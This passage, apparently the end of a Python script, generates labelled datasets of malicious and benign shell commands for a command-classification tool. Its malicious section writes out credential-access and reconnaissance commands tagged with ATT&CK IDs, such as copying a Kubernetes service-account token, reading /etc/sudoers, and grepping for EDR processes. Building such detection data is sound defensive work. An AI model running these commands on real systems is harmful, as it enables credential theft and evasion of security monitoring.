M("lateral_movement", "kubectl cp prod/api-0:/var/run/secrets/kubernetes.io/serviceaccount/token ./t", E("credential_access", "/var/run/secrets/", remote="api-0"))

# ------------------------------------------------------------------ discovery
for c, exp in [
    ("cat /etc/passwd", [E("read", "/etc/passwd")]),
    ("ps aux | grep -i -E 'falcon|crowdstrike|sentinel'", [E("exec", "ps", technique="T1057")]),
    ("netstat -tulpn", [E("exec", "netstat", technique="T1049")]),
    ("ss -antp", [E("exec", "ss")]),
    ("ip addr; ip route; arp -a", [E("exec", "ip"), E("exec", "arp", technique="T1016")]),
    ("uname -a && cat /etc/os-release", [E("exec", "uname", technique="T1082"), E("read", "/etc/os-release")]),
    ("id; whoami; groups", [E("exec", "id", technique="T1033")]),
    ("ls -la /root", [E("read", "/root")]),
    ("find / -writable -type d 2>/dev/null", [E("read", "/")]),
    ("getcap -r / 2>/dev/null", [E("read", "/")]),
    ("cat /etc/sudoers", [E("credential_access", "/etc/sudoers")]),
    ("docker ps -a", [E("exec", "docker", technique="T1613")]),
    ("kubectl auth can-i --list", [E("exec", "kubectl")]),
    ("aws sts get-caller-identity", [E("exec", "aws", technique="T1087.004")]),
    ("aws iam list-users", [E("exec", "aws")]),
    ("aws ec2 describe-instances --region us-east-1", [E("exec", "aws", technique="T1580")]),
    ("lsof -i -P -n", [E("exec", "lsof")]),
    ("systemctl list-units --type=service", [E("exec", "systemctl")]),
    ("cat /proc/net/tcp", [E("read", "/proc/net/tcp")]),
    ("ls -la ~/.ssh/", [E("credential_access", H + "/.ssh")]),
]:
    M("discovery", c, *exp)

# ================================================================== benign
ben = []


def B(cat, cmd, *expect):
    ben.append({"command": cmd, "category": cat, "expect": list(expect)})


P = "/home/dev/project"
BRANCHES = ["main", "develop", "feature/login", "fix/issue-42", "release/1.2", "chore/deps"]
FILES = ["src/main.rs", "src/lib.rs", "README.md", "Cargo.toml", "package.json", "app.py", "tests/test_api.py", "src/index.ts", "docs/guide.md", "Makefile", "setup.cfg", "go.mod", "cmd/server/main.go", "src/components/Button.tsx", "config/settings.yaml"]
MSGS = ["fix typo", "add tests for parser", "bump version", "refactor config loading", "update docs", "handle empty input"]

# git
for b in BRANCHES:
    B("git", "git checkout %s" % b, E("exec", "git"))
    B("git", "git checkout -b %s" % b, E("exec", "git"))
    B("git", "git switch %s" % b, E("exec", "git"))
    B("git", "git push -u origin %s" % b, E("exec", "git"))
    B("git", "git pull --rebase origin %s" % b, E("exec", "git"))
    B("git", "git merge --no-ff %s" % b, E("exec", "git"))
    B("git", "git rebase origin/%s" % b, E("exec", "git"))
    B("git", "git log --oneline -n 20 %s" % b, E("exec", "git"))
    B("git", "git diff %s..HEAD --stat" % b, E("exec", "git"))
    B("git", "git branch -d %s" % b, E("exec", "git"))
for m in MSGS:
    B("git", "git commit -m '%s'" % m, E("exec", "git"))
    B("git", "git commit -am \"%s\"" % m, E("exec", "git"))
    B("git", "git add -A && git commit -m '%s' && git push" % m, E("exec", "git"))
for f in FILES:
    B("git", "git add %s" % f, E("read", P + "/" + f))
    B("git", "git diff %s" % f, E("exec", "git"))
    B("git", "git log -p -- %s" % f, E("exec", "git"))
    B("git", "git blame %s" % f, E("read", P + "/" + f))
    B("git", "git checkout -- %s" % f, E("exec", "git"))
    B("git", "git restore --staged %s" % f, E("write", P + "/" + f))
for c in ["git status", "git status -sb", "git fetch --all --prune", "git stash", "git stash pop", "git stash list", "git log --graph --oneline --all", "git remote -v",
          "git branch -a", "git tag -l", "git show HEAD", "git diff --cached", "git rev-parse HEAD", "git describe --tags", "git shortlog -sn", "git reflog -n 10",
          "git cherry-pick abc1234", "git revert --no-edit HEAD", "git submodule update --init --recursive", "git clean -n", "git gc", "git fsck",
          "git config user.name 'Dev'", "git config --get remote.origin.url", "git worktree list", "git bisect start", "git ls-files | wc -l",
          "git grep -n TODO", "git log --since='2 weeks ago' --author=dev", "git fetch origin && git reset --hard origin/main"]:
    B("git", c, E("exec", "git"))
for r in ["https://github.com/rust-lang/cargo.git", "https://github.com/psf/requests.git", "git@github.com:acme/api.git", "https://gitlab.com/acme/web.git", "https://github.com/torvalds/linux.git"]:
    host = r.split("/")[2] if r.startswith("https") else "github.com"
    B("git", "git clone %s" % r, E("connect", host))
    B("git", "git clone --depth 1 %s vendor/lib" % r, E("connect", host), E("write", P + "/vendor/lib"))
    B("git", "git remote add upstream %s" % r, E("connect", host))

# build
for c, exp in [
    ("cargo build", "cargo"), ("cargo build --release", "cargo"), ("cargo check --all-targets", "cargo"), ("cargo clippy -- -D warnings", "cargo"),
    ("cargo fmt --all", "cargo"), ("cargo doc --no-deps", "cargo"), ("cargo run -- --help", "cargo"), ("cargo run --bin server", "cargo"),
    ("cargo build --target wasm32-unknown-unknown", "cargo"), ("cargo clean", "cargo"), ("cargo update -p serde", "cargo"), ("cargo tree -d", "cargo"),
    ("make", "make"), ("make -j4", "make"), ("make clean", "make"), ("make test", "make"), ("make -C build install DESTDIR=./out", "make"),
    ("cmake -S . -B build -DCMAKE_BUILD_TYPE=Release", "cmake"), ("cmake --build build -j 4", "cmake"), ("ninja -C build", "ninja"),
    ("meson setup builddir", "meson"), ("npm run build", "npm"), ("npm run lint", "npm"), ("npm run dev", "npm"), ("yarn build", "yarn"),
    ("pnpm build", "pnpm"), ("npx tsc --noEmit", "npx"), ("tsc -p tsconfig.json", "tsc"), ("npx vite build", "npx"), ("go build ./...", "go"),
    ("go build -o bin/server ./cmd/server", "go"), ("go vet ./...", "go"), ("go generate ./...", "go"), ("go mod tidy", "go"),
    ("mvn -q package -DskipTests", "mvn"), ("mvn clean install", "mvn"), ("./gradlew build", "./gradlew"), ("gradle test", "gradle"),
    ("python3 -m build", "python3"), ("python setup.py sdist bdist_wheel", "python"), ("gcc -O2 -Wall -o app main.c", "gcc"),
    ("clang++ -std=c++17 -o bin/app src/main.cpp", "clang++"), ("rustc --edition 2021 src/bin/tool.rs -o tool", "rustc"),
    ("docker build -t myapp:dev .", "docker"), ("docker compose build", "docker"), ("docker buildx build --platform linux/amd64 -t app .", "docker"),
    ("bazel build //...", "bazel"), ("zig build", "zig"), ("dotnet build", "dotnet"), ("swift build", "swift"), ("elm make src/Main.elm", "elm"),
    ("webpack --mode production", "webpack"), ("esbuild src/index.ts --bundle --outfile=dist/out.js", "esbuild"), ("cargo build --features full", "cargo"),
    ("./configure --prefix=$HOME/.local", "./configure"), ("autoreconf -fi", "autoreconf"), ("pre-commit run --all-files", "pre-commit"),
    ("sphinx-build -b html docs docs/_build", "sphinx-build"), ("mkdocs build", "mkdocs"), ("pandoc README.md -o README.pdf", "pandoc"),
    ("hugo --minify", "hugo"), ("jekyll build", "jekyll"),
]:
    B("build", c, E("exec", P + exp[1:] if exp.startswith("./") else exp))
for target in ["all", "lint", "fmt", "docs", "release", "check", "dist", "proto", "migrate", "bench"]:
    B("build", "make %s" % target, E("exec", "make"))
    B("build", "npm run %s" % target, E("exec", "npm"))
    B("build", "just %s" % target, E("exec", "just"))

# package managers
PY = ["requests", "numpy", "pandas", "flask", "pytest", "black", "ruff", "django==4.2", "fastapi", "'uvicorn[standard]'", "'pydantic>=2'", "httpx"]
JS = ["lodash", "react", "express", "typescript", "vitest", "@types/node", "eslint", "prettier", "zod", "axios", "next", "dayjs"]
RS = ["serde", "tokio", "anyhow", "clap", "reqwest", "tracing", "rand", "regex", "thiserror", "itertools"]
GO = ["github.com/spf13/cobra@latest", "golang.org/x/sync", "github.com/stretchr/testify", "github.com/gin-gonic/gin"]
for p in PY:
    q = p.strip("'")
    B("package", "pip install %s" % p, E("install", "pip:" + q))
    B("package", "python3 -m pip install --upgrade %s" % p, E("install", "pip:" + q))
    B("package", "poetry add %s" % p, E("install", q))
    B("package", "uv add %s" % p, E("install", q))
for p in JS:
    B("package", "npm install %s" % p, E("install", "npm:" + p))
    B("package", "npm install --save-dev %s" % p, E("install", p))
    B("package", "yarn add %s" % p, E("install", p))
    B("package", "pnpm add %s" % p, E("install", p))
for p in RS:
    B("package", "cargo add %s" % p, E("install", "cargo:" + p))
    B("package", "cargo add %s --features derive" % p, E("install", p))
for p in GO:
    B("package", "go get %s" % p, E("install", p))
for c in ["pip install -r requirements.txt", "pip install -e .", "pip install -r requirements-dev.txt", "npm install", "npm ci", "yarn install", "pnpm install",
          "poetry install", "uv sync", "bundle install", "composer install", "go mod download", "cargo fetch", "pip freeze > requirements.lock",
          "npm outdated", "npm audit", "pip list --outdated", "cargo install cargo-watch", "cargo install ripgrep", "npm ci --ignore-scripts",
          "python3 -m venv .venv", "source .venv/bin/activate", ". .venv/bin/activate", "conda install numpy", "brew install jq", "gem install bundler",
          "rustup component add clippy", "rustup target add wasm32-unknown-unknown", "npx prettier --check .", "pipx install poetry"]:
    first = c.split()[0]
    B("package", c, E("exec", first) if first not in ("source", ".") else E("exec", P + "/.venv/bin/activate"))

# tests
for c, exp in [
    ("cargo test", "cargo"), ("cargo test --workspace", "cargo"), ("cargo test -- --nocapture", "cargo"), ("cargo test parser::tests", "cargo"),
    ("cargo nextest run", "cargo"), ("cargo bench --bench parse", "cargo"), ("pytest", "pytest"), ("pytest -x -q tests/", "pytest"),
    ("pytest tests/test_api.py::test_login -vv", "pytest"), ("pytest --cov=app --cov-report=term-missing", "pytest"), ("python -m pytest -k 'not slow'", "python"),
    ("python3 -m unittest discover -s tests", "python3"), ("npm test", "npm"), ("npm test -- --watch=false", "npm"), ("npx jest --coverage", "npx"),
    ("npx vitest run", "npx"), ("yarn test", "yarn"), ("go test ./...", "go"), ("go test -race -count=1 ./pkg/...", "go"), ("go test -run TestHandler ./internal/api", "go"),
    ("mvn test", "mvn"), ("./gradlew test", "./gradlew"), ("tox -e py311", "tox"), ("nox -s tests", "nox"), ("ctest --test-dir build", "ctest"),
    ("rspec spec/models", "rspec"), ("bundle exec rspec", "bundle"), ("phpunit tests", "phpunit"), ("dotnet test", "dotnet"), ("swift test", "swift"),
    ("npx playwright test", "npx"), ("npx cypress run", "npx"), ("deno test", "deno"), ("bun test", "bun"), ("mix test", "mix"),
    ("ruff check .", "ruff"), ("ruff format --check .", "ruff"), ("mypy src/", "mypy"), ("black --check .", "black"), ("flake8 app/", "flake8"),
    ("eslint src/", "eslint"), ("npx eslint . --ext .ts,.tsx", "npx"), ("shellcheck scripts/*.sh", "shellcheck"), ("golangci-lint run", "golangci-lint"),
    ("cargo clippy --all-targets -- -D warnings", "cargo"), ("hadolint Dockerfile", "hadolint"), ("yamllint .github/workflows", "yamllint"),
    ("coverage run -m pytest && coverage report", "coverage"), ("hyperfine './target/release/app --version'", "hyperfine"),
]:
    B("test", c, E("exec", P + exp[1:] if exp.startswith("./") else exp))
for t in ["tests/test_models.py", "tests/test_views.py", "tests/unit/test_utils.py", "tests/integration/test_db.py", "tests/test_cli.py"]:
    B("test", "pytest %s" % t, E("read", P + "/" + t))
    B("test", "pytest -v %s --maxfail=1" % t, E("read", P + "/" + t))
    B("test", "python -m pytest %s -q" % t, E("exec", "python"))

# files
DIRS = ["src", "tests", "docs", "build", "dist", "target", "node_modules", "scripts", "assets", "tmp"]
for d in DIRS:
    B("files", "ls -la %s" % d, E("read", P + "/" + d))
    B("files", "mkdir -p %s/sub" % d, E("write", P + "/" + d + "/sub"))
    B("files", "du -sh %s" % d, E("read", P + "/" + d))
    B("files", "find %s -name '*.rs' -type f" % d, E("read", P + "/" + d))
    B("files", "tree -L 2 %s" % d, E("read", P + "/" + d))
for d in ["build", "dist", "target/debug", "node_modules", "__pycache__", ".pytest_cache", "coverage", "tmp", "out", ".mypy_cache"]:
    B("files", "rm -rf %s" % d, E("delete", P + "/" + d, recursive=True))
for f in FILES:
    B("files", "cat %s" % f, E("read", P + "/" + f))
    B("files", "head -n 40 %s" % f, E("read", P + "/" + f))
    B("files", "wc -l %s" % f, E("read", P + "/" + f))
    B("files", "grep -n 'TODO' %s" % f, E("read", P + "/" + f))
    B("files", "cp %s %s.bak" % (f, f), E("read", P + "/" + f), E("write", P + "/" + f + ".bak"))
    B("files", "sed -i 's/foo/bar/g' %s" % f, E("write", P + "/" + f))
    B("files", "touch %s" % f, E("write", P + "/" + f))
    B("files", "vim %s" % f, E("write", P + "/" + f))
    B("files", "less %s" % f, E("read", P + "/" + f))
    B("files", "diff %s %s.orig" % (f, f), E("read", P + "/" + f))
for c, exp in [
    ("grep -rn 'fn main' src/", [E("read", P + "/src", recursive=True)]),
    ("rg -n 'unwrap\\(\\)' src", [E("read", P + "/src")]),
    ("find . -name '*.py' | xargs wc -l", [E("read", P)]),
    ("find . -type f -name '*.log' -delete", [E("delete", P)]),
    ("mv src/old.rs src/new.rs", [E("delete", P + "/src/old.rs"), E("write", P + "/src/new.rs")]),
    ("cp -r templates/ build/templates", [E("read", P + "/templates", recursive=True), E("write", P + "/build/templates")]),
    ("tar czf dist.tar.gz dist/", [E("write", P + "/dist.tar.gz"), E("read", P + "/dist")]),
    ("tar xzf vendor.tar.gz -C vendor", [E("read", P + "/vendor.tar.gz"), E("write", P + "/vendor")]),
    ("unzip -o assets.zip -d assets", [E("read", P + "/assets.zip"), E("write", P + "/assets")]),
    ("zip -r release.zip dist", [E("write", P + "/release.zip")]),
    ("chmod +x scripts/deploy.sh", [E("chmod", P + "/scripts/deploy.sh")]),
    ("chmod 644 config/settings.yaml", [E("chmod", P + "/config/settings.yaml")]),
    ("ln -s ../shared/config.yaml config.yaml", [E("write", P + "/config.yaml")]),
    ("echo 'DEBUG=true' >> .env.local", [E("write", P + "/.env.local")]),
    ("cat package.json | jq '.dependencies'", [E("read", P + "/package.json")]),
    ("jq '.version' package.json", [E("read", P + "/package.json")]),
    ("sort data/input.csv | uniq -c > data/counts.txt", [E("read", P + "/data/input.csv"), E("write", P + "/data/counts.txt")]),
    ("awk -F, '{print $2}' data/users.csv", [E("read", P + "/data/users.csv")]),
    ("cut -d: -f1 data/records.txt | sort -u", [E("read", P + "/data/records.txt")]),
    ("sed -n '10,20p' src/main.rs", [E("read", P + "/src/main.rs")]),
    ("tail -f logs/app.log", [E("read", P + "/logs/app.log")]),
    ("cat > notes.txt <<'EOF'\nremember to update docs\nEOF", [E("write", P + "/notes.txt")]),
    ("printf '%s\\n' one two > list.txt", [E("write", P + "/list.txt")]),
    ("echo hello > out.txt", [E("write", P + "/out.txt")]),
    ("ls", [E("exec", "ls")]),
    ("stat Cargo.lock", [E("read", P + "/Cargo.lock")]),
    ("file target/release/app", [E("read", P + "/target/release/app")]),
    ("md5sum dist/*.tar.gz", [E("read", P + "/dist/*.tar.gz")]),
    ("sha256sum -c checksums.txt", [E("read", P + "/checksums.txt")]),
    ("xxd target/release/app | head", [E("read", P + "/target/release/app")]),
    ("rmdir empty_dir", [E("delete", P + "/empty_dir")]),
    ("truncate -s 0 logs/debug.log", [E("write", P + "/logs/debug.log")]),
    ("tee -a build.log < output.txt", [E("write", P + "/build.log")]),
    ("patch -p1 < fix.patch", [E("read", P + "/fix.patch")]),
    ("git diff > changes.patch", [E("write", P + "/changes.patch")]),
    ("convert logo.png -resize 50% logo-small.png", [E("read", P + "/logo.png"), E("write", P + "/logo-small.png")]),
    ("ffmpeg -i demo.mov demo.mp4", [E("read", P + "/demo.mov")]),
    ("sqlite3 dev.db '.tables'", [E("write", P + "/dev.db")]),
    ("realpath ../project/src", [E("exec", "realpath")]),
    ("cd src && ls -la", [E("read", P + "/src")]),
    ("cd .. && ls project", [E("read", P)]),
    ("cd tests; pytest -q", [E("exec", "pytest")]),
    ("for f in src/*.py; do black \"$f\"; done", [E("exec", "black")]),
    ("while read -r line; do echo \"$line\"; done < data/list.txt", [E("read", P + "/data/list.txt")]),
    ("if [ -f .env ]; then cp .env .env.backup; fi", [E("write", P + "/.env.backup")]),
    ("test -d build || mkdir build", [E("write", P + "/build")]),
]:
    B("files", c, *exp)

# servers
for port in [3000, 5000, 8000, 8080, 4200, 5173, 9000]:
    B("server", "python3 -m http.server %d" % port, E("listen", str(port)))
    B("server", "python3 -m http.server %d --bind 127.0.0.1" % port, {"verb": "listen", "class": "loopback"})
    B("server", "uvicorn app.main:app --reload --port %d" % port, E("listen", str(port)))
    B("server", "flask run --port %d" % port, E("listen", str(port)))
    B("server", "npx http-server -p %d" % port, E("exec", "npx"))
    B("server", "docker run --rm -p %d:80 nginx:alpine" % port, E("listen", str(port)))
    B("server", "docker run --rm -p 127.0.0.1:%d:5432 -e POSTGRES_PASSWORD=dev postgres:16" % port, {"verb": "listen", "class": "loopback"})
    B("server", "curl -s http://localhost:%d/health" % port, {"verb": "connect", "class": "loopback"})
    B("server", "curl -X POST -H 'Content-Type: application/json' -d '{\"name\":\"x\"}' http://127.0.0.1:%d/api/items" % port, {"verb": "connect", "class": "loopback"})
    B("server", "wget -qO- http://localhost:%d/" % port, {"verb": "connect", "class": "loopback"})
for c, exp in [
    ("npm run dev", E("exec", "npm")), ("npm start", E("exec", "npm")), ("yarn dev", E("exec", "yarn")), ("next dev", E("exec", "next")),
    ("docker compose up -d", E("exec", "docker")), ("docker compose down", E("exec", "docker")), ("docker compose logs -f api", E("exec", "docker")),
    ("docker ps", E("exec", "docker")), ("docker logs -f web", E("exec", "docker")), ("redis-server --port 6380", E("listen")),
    ("gunicorn -w 4 -b 127.0.0.1:8000 app:app", E("listen", "127.0.0.1:8000")), ("python manage.py runserver", E("exec", "python")),
    ("rails server -p 3000", E("listen", "3000")), ("hugo server -D", E("exec", "hugo")), ("jupyter lab --no-browser", E("listen")),
    ("mkdocs serve", E("listen")), ("cargo watch -x run", E("exec", "cargo")), ("psql -h localhost -U dev devdb", {"verb": "connect", "class": "loopback"}),
    ("redis-cli -h 127.0.0.1 ping", {"verb": "connect", "class": "loopback"}), ("mysql -h 127.0.0.1 -u root -e 'show databases'", {"verb": "connect", "class": "loopback"}),
    ("curl -sS https://api.github.com/repos/rust-lang/rust", E("connect", "api.github.com")), ("curl -O https://static.rust-lang.org/rustup/dist/x86_64-unknown-linux-gnu/rustup-init", E("connect", "static.rust-lang.org")),
    ("curl -L -o data/sample.csv https://raw.githubusercontent.com/acme/data/main/sample.csv", E("connect", "raw.githubusercontent.com")),
    ("wget https://github.com/acme/tool/releases/download/v1.0/tool.tar.gz", E("connect", "github.com")),
    ("kill %1", E("kill", "%1")), ("kill $(lsof -t -i:3000)", E("kill", unresolved=True)), ("pkill -f 'node server.js'", E("kill", "node server.js")),
    ("lsof -i :8000", E("exec", "lsof")), ("ps aux | grep node", E("exec", "ps")),
    ("tmux new -s dev", E("exec", "tmux")), ("ssh-keygen -t ed25519 -C dev@example.com -f ~/.ssh/id_ed25519_work -N ''", E("write", H + "/.ssh/id_ed25519_work")),
]:
    B("server", c, exp)

# misc dev
for c, exp in [
    ("env | sort", E("exec", "env")),
    ("python3 --version", E("exec", "python3")),
    ("node --version", E("exec", "node")), ("rustc --version", E("exec", "rustc")), ("go version", E("exec", "go")),
    ("python3 scripts/gen_docs.py", E("read", P + "/scripts/gen_docs.py")), ("node scripts/build.js", E("read", P + "/scripts/build.js")),
    ("bash scripts/setup.sh", E("read", P + "/scripts/setup.sh")), ("./scripts/deploy.sh --dry-run", E("exec", P + "/scripts/deploy.sh")),
    ("sh ./tools/fmt.sh", E("read", P + "/tools/fmt.sh")), ("python3 -c 'import sys; print(sys.version)'", E("inline_code")),
    ("node -e 'console.log(process.version)'", E("inline_code")), ("ruby -v", E("exec", "ruby")),
    ("date +%Y-%m-%d", E("exec", "date")), ("sleep 2 && curl -s localhost:8000", {"verb": "connect", "class": "loopback"}),
    ("time cargo build --release", E("exec", "cargo")), ("nice -n 10 make -j2", E("exec", "make")), ("timeout 60 npm test", E("exec", "npm")),
    ("env RUST_LOG=debug cargo run", E("exec", "cargo")), ("RUST_BACKTRACE=1 cargo test", E("exec", "cargo")), ("NODE_ENV=production npm run build", E("exec", "npm")),
    ("gh pr create --title 'Fix parser' --body 'Details'", E("exec", "gh")),
    ("gh pr list", E("exec", "gh")), ("gh issue view 42", E("exec", "gh")), ("gh run watch", E("exec", "gh")),
    ("docker run --rm -v $(pwd):/work -w /work rust:1.80 cargo test", E("exec", "docker")),
    ("docker run --rm -v \"$PWD\":/app -w /app node:20 npm ci", E("mount", P)),
    ("docker exec -it project-db-1 psql -U dev", E("exec", "psql", remote="docker:project-db-1")),
    ("kubectl get pods -n dev", E("exec", "kubectl")), ("kubectl logs deploy/api -n dev --tail 100", E("exec", "kubectl")),
    ("kubectl apply -f k8s/deployment.yaml", E("exec", "kubectl")), ("kubectl port-forward svc/api 8080:80", E("listen", "8080")),
    ("helm template charts/app", E("exec", "helm")), ("terraform fmt -recursive", E("exec", "terraform")), ("terraform plan -out tf.plan", E("write", P + "/tf.plan")),
    ("terraform validate", E("exec", "terraform")), ("ansible-playbook -i inventory/dev site.yml --check", E("exec", "ansible-playbook")),
    ("openssl req -x509 -newkey rsa:2048 -keyout certs/key.pem -out certs/cert.pem -days 365 -nodes -subj '/CN=localhost'", E("write", P + "/certs/cert.pem")),
    ("openssl rand -hex 32", E("exec", "openssl")), ("uuidgen", E("exec", "uuidgen")), ("base64 -d encoded.txt > decoded.bin", E("read", P + "/encoded.txt")),
    ("man git-rebase", E("exec", "man")), ("tldr tar", E("exec", "tldr")), ("code .", E("exec", "code")), ("open README.md", E("read", P + "/README.md")),
    ("watch -n 5 'ls -la build'", E("read", P + "/build")), ("xargs -n1 echo < list.txt", E("read", P + "/list.txt")),
    ("find src -name '*.ts' -exec prettier --write {} +", E("exec", "prettier")), ("git ls-files '*.py' | xargs ruff check", E("exec", "ruff")),
    ("sudo apt-get install -y build-essential", E("install", "apt:build-essential", via_sudo=True)), ("sudo apt update", E("privilege", "sudo")),
    ("brew upgrade", E("exec", "brew")), ("npx create-react-app my-app", E("install", "create-react-app")), ("cargo new --lib utils", E("write", P + "/utils")),
    ("poetry run python -m app", E("exec", "python")), ("pipenv run pytest", E("exec", "pytest")), ("uv run pytest -q", E("exec", "pytest")),
    ("npm exec -- eslint .", E("exec", "eslint")), ("bundle exec rake db:migrate", E("exec", "rake")), ("conda run -n dev python train.py", E("exec", "python")),
]:
    B("misc", c, exp)
for i in range(1, 41):
    B("files", "cat logs/run-%03d.log | grep ERROR | wc -l" % i, E("read", P + "/logs/run-%03d.log" % i))
    B("test", "pytest tests/test_case_%02d.py -q" % i, E("read", P + "/tests/test_case_%02d.py" % i))
    B("build", "cargo build -p crate-%02d" % (i % 12), E("exec", "cargo"))


def fix_class(entries):
    for ent in entries:
        for e in ent["expect"]:
            if "class_" in e:
                e["class"] = e.pop("class_")


fix_class(mal)
fix_class(ben)


def write(name, entries):
    seen = set()
    path = os.path.join(HERE, name)
    n = 0
    with open(path, "w") as f:
        for ent in entries:
            if ent["command"] in seen:
                continue
            seen.add(ent["command"])
            f.write(json.dumps(ent, sort_keys=False) + "\n")
            n += 1
    return n


if __name__ == "__main__":
    nm = write("malicious.jsonl", mal)
    nb = write("benign.jsonl", ben)
    print("malicious: %d, benign: %d" % (nm, nb))
